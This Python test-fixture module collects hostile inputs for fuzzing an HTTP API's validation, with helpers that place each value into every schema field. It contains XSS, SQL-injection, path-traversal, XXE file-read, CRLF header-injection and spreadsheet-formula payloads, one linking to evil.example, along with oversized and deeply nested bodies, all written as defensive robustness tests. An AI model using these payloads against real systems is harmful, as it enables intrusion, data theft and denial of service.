"""Hostile input: values, bodies, headers and path segments as attackers and broken devices send them."""

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

from shared.http.pagination import encode

MARK = "zqhostile7"
"""Part of every text here; a refusal must not contain it."""

NO_FIELD = f"{MARK} <b>"
"""Name that no field can have. A refusal names unknown fields, so that a misspelt one is found, but never this one."""

TEXTS = (
    f"{MARK}\u202eevitpeced\u202c",
    f"{MARK}\u0000after",
    f"{MARK}\ud800",
    f"\udfff{MARK}",
    f'=HYPERLINK("http://evil.example/?{MARK}")',
    f"@SUM(1)*cmd|' /C calc'!{MARK}",
    f"<script>alert('{MARK}')</script>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"{{{{7*7}}}}${{7*7}}%s%n{MARK}",
    f"'; DROP TABLE contacts; --{MARK}",
    f"../../../../etc/passwd%00{MARK}",
    f"{MARK}\r\nset-cookie: a=b",
    f"{MARK}\u2028\ufeff\U0001f469\u200d\U0001f467",
    f"{MARK}" + "\u0301" * 400,
    f"{MARK}" * 20_000,
)
CODES = (
    "٢٠٢٦-٠١",
    "E٠٠٠٠٠٠٠١",
    "E99999999",
    "0001-01-01",
    "9999-12-31",
    "2024-02-29",
    "",
    " ",
    "en-aaaaaaaa-bbbbbbbb",
)
NUMBERS = (-1, 0, 2**31, 2**63, -(2**63) - 1, 10**400, 1.5, -0.0, 1e308)
OTHERS: tuple[Any, ...] = (
    None,
    True,
    [],
    {},
    [[]],
    {NO_FIELD: MARK},
    [None] * 200,
    [{}] * 60,
    "2026-01-01T00:00:00",
)
VALUES: tuple[Any, ...] = (*TEXTS, *CODES, *NUMBERS, *OTHERS)

JSON = "application/json"
FORM = "application/x-www-form-urlencoded"
BODIES: tuple[tuple[str | None, bytes], ...] = (
    (JSON, b""),
    (JSON, b"null"),
    (JSON, b"[]"),
    (JSON, b"0"),
    (JSON, json.dumps(MARK).encode()),
    (JSON, b"{"),
    (JSON, b'{"%s": NaN, "years": NaN, "how_many": Infinity, "attempt": -Infinity}' % NO_FIELD.encode()),
    (JSON, b'{"how_many": ' + b"9" * 5000 + b', "attempt": ' + b"9" * 5000 + b"}"),
    (JSON, b'{"how_many": 1e999999, "attempt": 1e999999}'),
    (JSON, b'{"privacy": "share", "privacy": "anonymous", "name": "%s", "name": 7}' % MARK.encode()),
    (JSON, b"[" * 10_000 + b"]" * 10_000),
    (JSON, b'{"persons":' * 10_000 + b"1" + b"}" * 10_000),
    (JSON, b'{"text": "' + MARK.encode() * 20_000 + b'"}'),
    (JSON, b'{"text": "' + b"A" * 10_000_000 + b'"}'),
    (JSON, b'{"text": "\xff\xfe%s"}' % MARK.encode()),
    (JSON, b'\xef\xbb\xbf{"text": "%s"}' % MARK.encode()),
    (JSON, f'{{"text": "{MARK}"}}'.encode("utf-16")),
    (JSON, b'{"text": "\x00%s"}' % MARK.encode()),
    (JSON, b'{"__proto__": {"%s": 1}, "__class__": "x"}' % MARK.encode()),
    ("application/json; charset=utf-7", b'{"text": "+ADw-%s"}' % MARK.encode()),
    ("text/plain", MARK.encode()),
    (
        "application/xml",
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;%s</a>' % MARK.encode(),
    ),
    ("multipart/form-data", b"--x\r\n%s" % MARK.encode()),
    (
        "multipart/form-data; boundary=x",
        b'--x\r\ncontent-disposition: form-data; name="%s"\r\n' % MARK.encode(),
    ),
    (FORM, b"name=%s&name=%%ff%%00&reference=" % MARK.encode() + b"a" * 300),
    (FORM, b"&".join(b"a%d=%s" % (n, MARK.encode()) for n in range(2000))),
    (FORM, b"name=%ED%A0%80&reference=%00%F0%28"),
    (FORM, b"\xff\xfe=%s" % MARK.encode()),
    ("", MARK.encode()),
    (None, b"\x1f\x8b" + MARK.encode()),
)
HEADERS: tuple[dict[bytes, bytes], ...] = (
    {b"authorization": b"Bearer " + MARK.encode()},
    {b"authorization": b"Bearer " + MARK.encode() * 2000},
    {b"authorization": b"Basic " + MARK.encode()},
    {b"authorization": b"Bearer \xff\x00" + MARK.encode()},
    {b"authorization": MARK.encode()},
    {b"idempotency-key": MARK.encode() + b"\xff\xfe\x00"},
    {b"idempotency-key": MARK.encode() * 5000},
    {b"idempotency-key": b"short"},
    {b"if-match": MARK.encode()},
    {b"if-match": b'"999999999999999999999"'},
    {b"if-match": b'W/"\xd9\xa1"'},
    {b"cookie": MARK.encode() * 6000},
    {b"user-agent": b"\x00\x1b[2J" + MARK.encode()},
    {b"referer": b"javascript:" + MARK.encode()},
    {b"content-encoding": b"gzip"},
    {b"accept": MARK.encode(), b"accept-language": b"\xff" * 300},
    {b"x-forwarded-for": MARK.encode(), b"x-forwarded-proto": MARK.encode(), b"forwarded": MARK.encode()},
    {b"x-http-method-override": b"DELETE", b"traceparent": MARK.encode()},
    {b"content-length": b"-1"},
    {b"range": b"bytes=99999-," + MARK.encode()},
)
SEGMENTS = (
    MARK,
    "..%2f..%2fetc%2fpasswd" + MARK,
    "%00" + MARK,
    "%ff%fe" + MARK,
    quote(f"{MARK}\u202e"),
    "00000000-0000-0000-0000-000000000000",
    "{" + MARK + "}",
    "%0d%0aset-cookie:" + MARK,
    MARK * 900,
    "A" * 48,
    quote("=" * 50),
    quote("٠" * 36),
    "urn:uuid:00000000-0000-0000-0000-000000000000",
)


def cursors() -> Iterator[str]:
    """Return cursors in the form of ours that hold what no row holds."""
    parts: tuple[Any, ...] = (
        None,
        True,
        5,
        -(10**30),
        1.5,
        "\u0000",
        "\ud800",
        "0001-01-01T00:00:00+23:59",
        [[]],
        {},
    )
    for part in (*parts, "9999-12-31T23:59:59-23:59", "2026-01-01T00:00:00", MARK):
        for length in (1, 2, 4, 5):
            yield encode(*[part] * length)
    yield "!!!" + MARK
    yield "٠" * 100


QUERIES = (*TEXTS[:13], *CODES, "-1", "0", "101", "9" * 500, "1e9", "NaN", "true", "[]", "{}", *cursors())


def hostile_bodies(schema: Any, whole: Any, valid: Any) -> Iterator[Any]:
    """Return the valid body with each of its fields, at every depth of the schema, replaced by each value."""
    for path in _fields(schema, whole, depth=3):
        for value in VALUES:
            yield _with(valid, path, value)


def _fields(schema: Any, whole: Any, *, depth: int) -> Iterator[tuple[str, ...]]:
    if "$ref" in schema:
        schema = whole["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
    for option in schema.get("anyOf", ()):
        yield from _fields(option, whole, depth=depth)
    if "items" in schema and depth:
        yield from (("[]", *rest) for rest in _fields(schema["items"], whole, depth=depth - 1))
    for name, field in schema.get("properties", {}).items():
        yield (name,)
        if depth:
            yield from ((name, *rest) for rest in _fields(field, whole, depth=depth - 1))


def _with(valid: Any, path: tuple[str, ...], value: Any) -> Any:
    if not path:
        return value
    name, *rest = path
    if name == "[]":
        return [_with({}, tuple(rest), value)]
    before = valid if isinstance(valid, dict) else {}
    return {**before, name: _with(before.get(name, {}), tuple(rest), value)}
